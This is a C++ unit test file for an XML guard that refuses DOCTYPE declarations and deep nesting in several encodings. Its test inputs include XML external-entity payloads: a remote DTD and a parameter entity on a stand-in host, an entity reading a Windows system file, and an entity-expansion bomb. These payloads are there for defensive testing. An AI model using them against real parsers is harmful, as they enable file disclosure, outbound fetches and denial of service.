// Catches a document type declaration (so an external DTD, external or parameter entities, an
// entity bomb) or deep nesting reaching the XML parser, in any encoding the parser would read,
// and ordinary documents refused because markup-like text sits where the parser skips it.
#include "tarnbeam/feed/portable/xml_guard.h"

#include <gtest/gtest.h>

#include <string>

using xmlguard::checkDocument;
using xmlguard::Verdict;

namespace {

Verdict Check(const std::string &bytes, unsigned depth = xmlguard::kMaxElementDepth) {
    return checkDocument(reinterpret_cast<const unsigned char *>(bytes.data()), bytes.size(), depth);
}

std::string Utf16(const std::string &ascii, bool bigEndian, bool mark) {
    std::string out = mark ? (bigEndian ? "\xFE\xFF" : "\xFF\xFE") : "";
    for (char c : ascii) {
        out += bigEndian ? '\0' : c;
        out += bigEndian ? c : '\0';
    }
    return out;
}

const char kFeed[] =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- <!DOCTYPE in a comment -->\n"
    "<rss version=\"2.0\" a='>'><channel><item><description><![CDATA[<!DOCTYPE html><p>x</p>]]>"
    "</description><?pi <!ENTITY?><br/></item></channel></rss>";

} // namespace

TEST(XmlGuard, DocumentsWithoutDeclarationsPass) {
    EXPECT_EQ(Check(kFeed), Verdict::kAccepted);
    EXPECT_EQ(Check("\xEF\xBB\xBF  <r>\xE6\x97\xA5</r>"), Verdict::kAccepted);
    EXPECT_EQ(Check(Utf16(kFeed, false, true)), Verdict::kAccepted);
    EXPECT_EQ(Check(Utf16(kFeed, true, false)), Verdict::kAccepted);
}

TEST(XmlGuard, DeclarationsAreRefusedInEveryEncoding) {
    const std::string external = "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.test/x.dtd\"><r/>";
    const std::string entity = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///c:/windows/win.ini\">]><r>&x;</r>";
    const std::string parameter = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.test/p\"> %p;]><r/>";
    const std::string laughs = "<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]><l>&b;</l>";
    for (const std::string &doc :
         {external, entity, parameter, laughs, std::string("<r><!ENTITY x \"y\"></r>")}) {
        EXPECT_EQ(Check(doc), Verdict::kDeclaration) << doc;
        EXPECT_EQ(Check("\xEF\xBB\xBF" + doc), Verdict::kDeclaration) << doc;
        EXPECT_EQ(Check(Utf16(doc, false, false)), Verdict::kDeclaration) << doc;
        EXPECT_EQ(Check(Utf16(doc, true, true)), Verdict::kDeclaration) << doc;
    }
}

TEST(XmlGuard, NestingBeyondTheLimitIsRefused) {
    std::string open, close;
    for (int i = 0; i < 4; ++i) {
        open += "<a x=\"/\">";
        close += "</a>";
    }
    EXPECT_EQ(Check(open + "<b/>" + close, 4), Verdict::kAccepted);
    EXPECT_EQ(Check(open + "<b></b>" + close, 4), Verdict::kTooDeep);
    // Siblings do not add up.
    EXPECT_EQ(Check("<r>" + std::string(1000, ' ') + "<a></a><a></a><a/></r>", 2), Verdict::kAccepted);
}

TEST(XmlGuard, WhatIsNotPlainMarkupIsRefused) {
    for (const std::string &doc :
         {std::string(), std::string("text"), std::string("<r><!-- open"), std::string("<r a=\"open>"),
          std::string("<![CDATA[x"), std::string("\0\0\xFE\xFF", 4), std::string("<\0\0\0r\0\0\0", 8)})
        EXPECT_EQ(Check(doc), Verdict::kMalformed) << doc;
}
